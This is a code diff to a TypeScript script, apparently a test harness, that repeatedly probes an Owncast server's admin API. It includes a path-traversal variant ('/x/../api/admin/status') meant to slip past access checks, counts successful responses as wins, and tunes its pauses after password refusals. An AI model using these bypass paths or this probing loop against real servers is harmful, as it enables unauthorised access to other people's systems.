@@ -15,6 +15,8 @@ const spelt = [
   "/x/../api/admin/status",
 ];
 const pauseMs = 250;
+// Each comparison of a password costs Owncast 75 ms. Tries are frequent until one comes so far, and again after each start.
+const refusedPauseMs = 1000;
 const admin = { won: 0, answered: 0 };
 const ingest = { won: 0, answered: 0 };
 
@@ -34,7 +36,7 @@ async function attackAdmin(url: string): Promise<never> {
       const status = await ask(url, path);
       if (status !== undefined) admin.answered += 1;
       if (status === 200) admin.won += 1;
-      await sleep(pauseMs);
+      await sleep(status === 401 ? refusedPauseMs : pauseMs);
     }
 }
 
